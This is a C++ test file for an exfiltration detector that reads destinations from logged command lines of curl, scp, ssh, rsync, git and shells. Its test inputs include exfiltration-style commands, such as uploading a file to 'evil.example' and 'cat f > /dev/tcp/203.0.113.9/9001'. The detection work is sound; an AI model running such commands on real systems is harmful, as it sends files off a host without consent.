#include "host_with_cron.hpp"

/// Logs that hold programs and no connections: what the command lines alone tell.
namespace auexfil::test {
namespace {

/// "tool direction host:port, …" of each fact.
std::string told(const std::vector<facts::Fact>& facts) {
  std::string text;
  for (const facts::Fact& fact : facts) {
    text += (text.empty() ? "" : "; ") + fact.tool + " " + to_word(fact.direction);
    for (const facts::Destination& d : fact.destinations) {
      text += " " + (d.address ? d.address->to_string() : d.name.value_or("?"));
      text += d.port ? ":" + std::to_string(*d.port) : std::string{};
    }
  }
  return text;
}

std::string run_alone(const std::string& exe, const std::vector<std::string>& argv) {
  CronHost log("", only({"execve", "clone"}));
  log.tool(exe, argv);
  return told(tell(log));
}

}  // namespace

TEST_CASE("argv only: of very many hosts the rest are a destination that nothing approves") {
  std::vector<std::string> argv = {"curl", "-T", "f"};
  for (int i = 0; i < 80; ++i) {
    argv.push_back("https://good" + std::to_string(i) + ".example/");
  }
  argv.push_back("https://evil.example/");
  CronHost log("", only({"execve", "clone"}));
  log.tool("/usr/bin/curl", argv);
  const std::vector<facts::Fact> facts = tell(log);
  REQUIRE(facts.size() == 1);
  const facts::Fact& fact = facts.front();
  REQUIRE(fact.destinations.size() == 65);
  CHECK(fact.destinations[63].name == "good63.example");
  CHECK_FALSE(fact.destinations[64].name);
  CHECK_FALSE(fact.destinations[64].address);
  CHECK(fact.destinations[64].direction == transfer::Direction::out);
  CHECK(std::find(fact.notes.begin(), fact.notes.end(),
                  "its command line names more hosts than 64: the rest are one destination without "
                  "a name") != fact.notes.end());
}

TEST_CASE("argv only: the destination has the port that its command line tells") {
  const auto row = GENERATE(table<std::string, std::vector<std::string>, std::string>({
      {"/usr/bin/sftp", {"sftp", "-P", "2222", "u@203.0.113.9"}, "sftp unknown 203.0.113.9:2222"},
      {"/usr/bin/curl", {"curl", "-T", "f", "https://h.example/"}, "curl out h.example:443"},
      {"/usr/bin/scp", {"scp", "f", "a.example:", "-P", "22"}, "scp out a.example:22"},
      {"/usr/bin/scp", {"scp", "-3", "a.example:f", "b.example:"}, "scp both a.example b.example"},
      {"/usr/bin/curl", {"curl", "-T", "f", "http://127.1/"}, ""},
      {"/usr/bin/curl", {"curl", "-T", "f", "http://0.0.0.0:8080/"}, ""},
      {"/usr/bin/curl", {"curl", "-T", "f", "http://localhost.localdomain/"}, ""},
      {"/usr/bin/curl", {"curl", "-T", "f", "http://x.localhost/"}, ""},
      {"/usr/bin/scp", {"scp", "f", "ip6-localhost:"}, ""},
      {"/usr/bin/curl", {"curl", "--unix-socket", "/run/x", "-d@f", "http://docker/"}, ""},
      {"/usr/bin/docker", {"docker", "push", "localhost:5000/x"}, ""},
      {"/usr/bin/docker", {"docker", "push", "me/x"}, "docker out docker.io"},
      {"/usr/bin/restic", {"restic", "backup", "/etc"}, "restic out ?"},
      {"/usr/bin/scp",
       {"scp", "-J", "u@203.0.113.7:2222", "f", "h.example:"},
       "scp out 203.0.113.7:2222"},
      {"/usr/bin/scp",
       {"scp", "-oProxyJump=a.example,b.example", "f", "h.example:"},
       "scp out a.example"},
      {"/usr/bin/scp",
       {"scp", "-3", "-J", "j.example", "a.example:f", "b.example:"},
       "scp both j.example"},
      {"/usr/bin/sftp", {"sftp", "-J", "none", "u@203.0.113.9"}, "sftp unknown 203.0.113.9"},
      {"/usr/bin/ssh",
       {"ssh", "-J", "ssh://u@[2001:db8::7]:2222", "h.example", "cat > f"},
       "ssh out 2001:db8::7:2222"},
      {"/usr/bin/rsync",
       {"rsync", "-e", "ssh -p 22 -J j.example", "f", "h.example:"},
       "rsync out j.example"},
      {"/usr/bin/curl",
       {"curl", "-x", "203.0.113.8:3128", "-T", "f", "https://h.example/"},
       "curl out 203.0.113.8:3128"},
      {"/usr/bin/curl",
       {"curl", "--proxy", "socks5h://u@p.example:1080/", "-T", "f", "https://h.example/"},
       "curl out p.example:1080"},
      {"/usr/bin/curl",
       {"curl", "--resolve", "h.example:443:203.0.113.3", "-T", "f", "https://h.example/"},
       "curl out 203.0.113.3:443"},
      {"/usr/bin/curl",
       {"curl", "--resolve", "g.example:443:203.0.113.3", "-T", "f", "https://h.example/"},
       "curl out h.example:443"},
      {"/usr/bin/curl",
       {"curl", "--connect-to", "::[2001:db8::12]:", "-T", "f", "https://h.example/"},
       "curl out 2001:db8::12:443"},
      {"/usr/bin/wget",
       {"wget", "-e", "https_proxy=p.example:3128", "--post-file=f", "https://h.example/"},
       "wget out p.example:3128"},
      {"/usr/bin/scp",
       {"scp", "-o", "HostName=203.0.113.10", "f", "h.example:"},
       "scp out 203.0.113.10"},
      {"/usr/bin/scp", {"scp", "-oProxyCommand=nc p.example 22", "f", "h.example:"}, "scp out ?"},
      {"/usr/bin/scp", {"scp", "-oProxyCommand=none", "f", "h.example:"}, "scp out h.example"},
      {"/usr/bin/scp", {"scp", "-O", "f", "h.example:"}, "scp out h.example"},
      {"/usr/bin/ssh", {"ssh", "-S", "/run/m", "-O", "exit", "h.example"}, ""},
      {"/usr/bin/ssh", {"ssh", "h.example", "-O", "exit"}, ""},
  }));
  const auto& [exe, argv, wanted] = row;
  CAPTURE(argv);
  CHECK(run_alone(exe, argv) == wanted);
}

TEST_CASE("argv only: what lies behind a jump host is a note") {
  CronHost log("", only({"execve", "clone"}));
  log.tool("/usr/bin/scp", {"scp", "-J", "j.example", "f", "h.example:"});
  CHECK(has_note(one(log), "goes to h.example through"));
}

TEST_CASE("argv only: where no host is named the fact says so") {
  CronHost log("", only({"execve", "clone"}));
  log.tool("/usr/bin/restic", {"restic", "backup", "/etc"});
  log.tool("/usr/bin/npm", {"npm", "publish"});
  const auto facts = tell(log);
  REQUIRE(facts.size() == 2);
  CHECK(has_note(facts[0], "settings of its own say where to"));
  CHECK(has_note(facts[1], "registry.npmjs.org is where it goes unless set up otherwise"));
}

TEST_CASE("argv only: git pushes where its helper is told to") {
  CronHost log("", only({"execve", "clone"}));
  const int git = log.tool("/usr/bin/git", {"git", "push", "origin", "main"});
  log.run(git, git + 1, "/usr/bin/ssh",
          {"ssh", "-p", "2222", "git@h.example", "git-receive-pack 'r'"});
  CHECK(told(tell(log)) == "git out h.example:2222");
}

TEST_CASE("argv only: of shells in shells the one that does it counts") {
  CronHost log("", only({"execve", "clone"}));
  const std::string inner = "cat f > /dev/tcp/203.0.113.9/9001";
  const int outer = log.tool("/usr/bin/bash", {"bash", "-c", "bash -c '" + inner + "'"});
  log.run(outer, outer + 1, "/usr/bin/bash", {"bash", "-c", inner});
  const auto facts = tell(log);
  CHECK(told(facts) == "dev-tcp out 203.0.113.9:9001");
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].process.pid == static_cast<std::uint32_t>(outer + 1));
}

TEST_CASE("argv only: a shell whose connections are in the log is told by these") {
  CronHost log;
  const int shell = log.tool("/usr/bin/bash", {"bash", "-c", "cat f > /dev/tcp/203.0.113.9/9001"});
  log.tcp(shell, 3, "203.0.113.9", 9001);
  log.upload(shell, 3, 100000);
  log.close(shell, 3);
  const auto facts = tell(log);
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].tool == "other");
  CHECK(told(facts) == "other out 203.0.113.9:9001");
}

}  // namespace auexfil::test
